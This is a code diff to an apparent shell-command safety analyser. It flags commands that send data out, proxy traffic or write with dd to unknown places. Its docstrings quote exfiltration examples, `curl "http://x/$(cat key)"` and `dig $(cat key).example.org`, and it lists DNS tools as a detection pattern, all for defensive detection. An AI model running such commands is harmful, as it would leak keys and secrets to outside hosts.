@@ -23,6 +23,7 @@ _GIT_SETTING = pattern(
 )
 _GIT_READS = {"--get", "--list", "-l", "--get-all"}
 _QUIET_PAGERS = ("", "cat", "less", "true", "false")
+_RESOLVERS = frozenset(["ping", "ping6", "dig", "host", "nslookup", "whois"])
 _READS = {"GET", "HEAD", "OPTIONS"}
 _ASKS_NOTHING = frozenset(["-l", "--list", "--version", "--help", "-V", "-version"])
 _REDIS_LOOKS = ("--scan", "--stat", "--bigkeys", "--memkeys", "--latency")
@@ -39,7 +40,7 @@ def _values(args: Args) -> list[str | None]:
 def _asks(state: State, known: Entry, args: Args, command: Command) -> None:
     """Note the statements that a database's client is asked."""
     if known.more["asks"] == "redis":
-        changes = _changes_redis(known, args)
+        changes = _changes_redis(state, known, args, command)
     elif _ASKS_NOTHING.isdisjoint(arg.start for arg in args[1:]):
         changes = _changes_database(state, known, args, command)
     else:
@@ -55,15 +56,22 @@ def _changes_database(state: State, known: Entry, args: Args, command: Command) 
         state.script(line)
     if not texts:
         return "verbs" not in known.more  # it waits for statements
+    if statements.only_in_memory(_values(args), texts):
+        return False
     is_mongo = known.more["asks"] == "mongo"
     judge = statements.changes_mongo if is_mongo else statements.changes_sql
     return None in texts or any(map(judge, filter(None, texts)))
 
 
-def _changes_redis(known: Entry, args: Args) -> bool:
+def _changes_redis(state: State, known: Entry, args: Args, command: Command) -> bool:
     if any(arg.start.startswith(_REDIS_LOOKS) for arg in args[1:]):
         return False
-    return statements.changes_redis(operands(known, _values(args)))
+    return statements.changes_redis(operands(known, _values(args)) or _read(state, command))
+
+
+def _read(state: State, command: Command) -> list[str | None]:
+    text = input_of(state, command)
+    return [] if text is None else [*text.split()]
 
 
 def _statements(state: State, known: Entry, args: Args, command: Command) -> Iterator[str | None]:
@@ -90,6 +98,25 @@ def _methods(state: State, known: Entry, args: Args, command: Command) -> None:
     said += [arg.start[2:] for arg in args[1:] if re.match(r"-X[A-Z]", arg.start)]
     for method in {str(each).upper() for each in said} - _READS:
         state.add("send", known.name, method, is_local=False)
+
+
+def _fetches(state: State, known: Entry, args: Args, command: Command) -> None:
+    """`curl "http://x/$(cat key)"`, `dig $(cat key).example.org`: what a command prints is sent."""
+    given = {"all", *(arg.text for arg in args[1:])}
+    if given.isdisjoint(known.listed("fetches")):
+        return
+    is_hidden = known.name in _RESOLVERS and None in given
+    if is_hidden or any(arg.is_printed for arg in args[1:]):
+        state.add("send", known.name, "what a command prints", is_local=False)
+    for option in {arg.start for arg in args}.intersection(known.listed("proxies")):
+        _proxied(state, known, option, args)
+
+
+def _proxied(state: State, known: Entry, option: str, args: Args) -> None:
+    """`curl -x PROXY`, `wget -e https_proxy=PROXY`."""
+    value = next(filter(None, texts_of(known, option, args)), "proxy")
+    if option != "-e" or "proxy" in value:
+        state.add("send", known.name, f"{option}: what is asked goes there", is_local=False)
 
 
 def openssl(state: State, known: Entry, args: Args, command: Command) -> None:
@@ -147,8 +174,15 @@ def _jobs(state: State, known: Entry, args: Args, command: Command) -> None:
         state.forget("kill")
 
 
+def dd(state: State, known: Entry, args: Args, command: Command) -> None:
+    """`dd of="$place"`: it may be a disk."""
+    if any(arg.text is None and arg.start.startswith("of=") for arg in args[1:]):
+        state.add("system", "dd", "writes to a place that is only known when it runs")
+
+
 BY_KEY: Mapping[str, Callable[[State, Entry, Args, Command], None]] = {
     "asks": _asks,
     "jobs": _jobs,
     "methods": _methods,
+    "fetches": _fetches,
 }
